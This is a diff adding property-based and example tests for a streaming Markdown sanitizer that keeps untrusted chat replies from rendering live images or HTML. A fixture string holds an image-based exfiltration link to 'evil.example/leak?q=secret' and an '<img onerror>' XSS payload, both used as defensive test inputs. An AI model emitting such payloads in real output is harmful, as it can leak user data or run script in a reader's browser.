@@ -194,3 +194,62 @@ def test_blocks_render_apart_so_one_cannot_swallow_the_next() -> None:
     data = view._repr_mimebundle_()
     assert data["text/html"].endswith("<hr><p><em>footer</em></p>\n")
     assert data["text/plain"] == "plain" and repr(view) == "plain"
+
+
+def _streamed(text: str, cuts: list[int]) -> str:
+    """``text`` through a ``MarkdownStream``, fed in pieces cut at ``cuts``."""
+    from deerflow_nb.untrusted import MarkdownStream
+
+    stream, out, start = MarkdownStream(), [], 0
+    for cut in sorted({c % (len(text) + 1) for c in cuts}) + [len(text)]:
+        out.append(stream.feed(text[start:cut]))
+        start = cut
+    return "".join(out) + stream.end()
+
+
+def _live_html(markdown: str) -> list[str]:
+    """What a Markdown renderer that allows raw HTML (as the chat panel's does, before its
+    sanitizer) would make live of ``markdown``: images and raw HTML tokens."""
+    from markdown_it import MarkdownIt
+
+    md = MarkdownIt("commonmark", {"html": True})
+    live = []
+    for token in md.parse(markdown):
+        if token.type == "html_block":
+            live.append(token.content)
+        for child in token.children or []:
+            if child.type in ("image", "html_inline"):
+                live.append(child.type)
+    return live
+
+
+def test_a_streamed_reply_shows_images_as_links_and_tags_as_text_outside_fences() -> None:
+    reply = (
+        "See ![chart](https://evil.example/leak?q=secret) and <img src=x onerror=alert(1)>.\n"
+        "```python\nif a < b: show(![x])\n```\n"
+        "<!-- hidden --> `<b>` \\\\![y](https://evil.example/y.png)"
+    )
+    shown = _streamed(reply, [3, 17, 40, 66, 70, 90])
+    assert _live_html(shown) == []
+    assert "\\![chart](https://evil.example/leak?q=secret)" in shown
+    assert "```python\nif a < b: show(![x])\n```\n" in shown  # code is left as written
+    assert _streamed("```\n![x](u)", []) == "```\n![x](u)\n```"  # closed: the footer is not code
+    assert _streamed("a\n```", [3]) == "a\n```\n```"
+
+
+@given(
+    st.text(alphabet="![]()<>/`~ \n\\ab:?", max_size=60),
+    st.lists(st.integers(min_value=0, max_value=60), max_size=6),
+)
+@settings(max_examples=300)
+def test_no_cut_of_a_streamed_reply_makes_anything_live_or_changes_it(
+    text: str, cuts: list[int]
+) -> None:
+    from markdown_it import MarkdownIt
+
+    shown = _streamed(text, cuts)
+    assert shown == _streamed(text, [])
+    assert _live_html(shown) == []
+    # nothing in the reply swallows the footer written after it
+    tokens = MarkdownIt("commonmark").parse(shown + "\n\n---\n*footer*")
+    assert any(c.type == "em_open" for t in tokens for c in t.children or [])
